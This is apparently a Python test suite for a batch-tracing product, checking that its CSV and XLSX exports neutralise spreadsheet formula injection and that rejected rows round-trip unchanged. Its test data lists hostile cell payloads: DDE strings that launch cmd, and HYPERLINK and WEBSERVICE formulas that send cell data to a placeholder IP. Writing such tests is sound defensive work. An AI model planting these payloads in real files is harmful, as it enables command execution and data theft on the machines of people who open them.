"""What a stranger typed is no formula in any table that the product writes, and comes back as it was typed."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest
from hypothesis import given
from hypothesis import strategies as st
from starlette.testclient import TestClient

from api.app import create_app
from genealogy.guard import guarded, unguarded
from genealogy.paper import Paper, Table, book_bytes, csv_bytes
from genealogy.settings import Settings
from genealogy.store import Store
from loaders.load import load
from loaders.options import Options
from tests.api.conftest import key_of
from tests.loaders.graph import ask

UTC = ZoneInfo("UTC")
FORMS = (
    *("=1+1", "+1+1", "-1+1", "@SUM(1,1)", "＝1+1", "＋1", "－1", "＠A1", "'=1+1", "''-1", "=", "-5"),
    *(
        "=cmd|' /C calc'!A0",
        "+cmd|' /C calc'!A0",
        "-cmd|' /C calc'!A0",
        "@cmd|' /C calc'!A0",
        '=DDE("cmd";"/C calc";"1")',
    ),
    *('=HYPERLINK("http://192.0.2.1?x="&A1,"铜")', "=IMPORTXML(1,1)", '=WEBSERVICE("http://192.0.2.1")'),
)
STARTS = ("=", "+", "-", "@", "＝", "＋", "－", "＠", "\t", "\r", "\n")


def _rows(body: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))


@given(st.text(alphabet="='+-@\t\r\n＝a1 ", max_size=6))
def test_the_guard_comes_off_again(cell: str) -> None:
    assert not guarded(cell).startswith(STARTS)
    assert unguarded(guarded(cell)) == cell


@pytest.mark.parametrize("cell", ["1", "铜", "'s-Hertogenbosch", "A=1", "a-b", ""])
def test_what_is_no_formula_stays_as_it_is(cell: str) -> None:
    assert guarded(cell) == unguarded(cell) == cell


def test_papers_hold_no_formula() -> None:
    table = Table("=1+1", ("=1+1", "@a"), tuple((form, form) for form in FORMS))

    assert not [cell for row in _rows(csv_bytes(table)) for cell in row if cell.startswith(STARTS)]

    paper = Paper("=1+1", (("=1+1", "=2"),), ("=1+1",), (table,), "=1+1", ("=1+1",))
    with zipfile.ZipFile(io.BytesIO(book_bytes(paper))) as book:
        sheets = [book.read(name).decode() for name in book.namelist() if "worksheets/sheet" in name]
        assert not [name for name in book.namelist() if "externalLink" in name or "worksheets/_rels" in name]
    kinds = {kind for sheet in sheets for kind in re.findall(r"<c [^>]*?>", sheet)}
    assert kinds
    assert all('t="s"' in kind or kind.endswith("/>") for kind in kinds)
    assert not any(re.search(r"<f[ >]|<hyperlink", sheet) for sheet in sheets)


def test_rejected_rows_hold_no_formula_and_load_as_they_were_typed(store: Store, tmp_path: Path) -> None:
    source, rejected = tmp_path / "in", tmp_path / "out"
    source.mkdir()
    with (source / "batches.csv").open("w", encoding="utf-8", newline="") as file:
        csv.writer(file).writerows(
            [["material", "lot", "quantity", "=note"], *(["铜", form, "-1", form] for form in FORMS)]
        )
    assert load(None, source, UTC, Options(rejected_dir=rejected)).totals["rejected"] == len(FORMS)
    written = (rejected / "batches.csv").read_bytes()
    assert not [cell for row in _rows(written) for cell in row if cell.startswith(STARTS)]

    load(None, rejected, UTC, Options(rejected_dir=tmp_path / "again"))
    assert (tmp_path / "again" / "batches.csv").read_bytes() == written, "not corrected, it comes back as it was"

    (rejected / "batches.csv").write_bytes(written.replace(b",'-1,", b",1,"))
    assert load(store, rejected, UTC).clean
    found = ask(store, "MATCH (b:Batch) RETURN b.lot, b.`=note`")
    assert set(found) == {(form, form) for form in FORMS}


def test_a_trace_holds_no_formula(store: Store, tmp_path: Path) -> None:
    (tmp_path / "batches.csv").write_text("material,lot\n=M,-5\n", encoding="utf-8")
    load(store, tmp_path, UTC)
    home = Settings(home=tmp_path / "home")
    with TestClient(create_app(home, store), base_url="http://127.0.0.1", headers=key_of(home)) as client:
        answer = client.get("/batches/%253DM/-5/trace?direction=both", headers={"Accept": "text/csv"})
    assert _rows(answer.content)[1:] == [["%3DM/-5", "'=M", "'-5", "", "", "0", "certain"]]
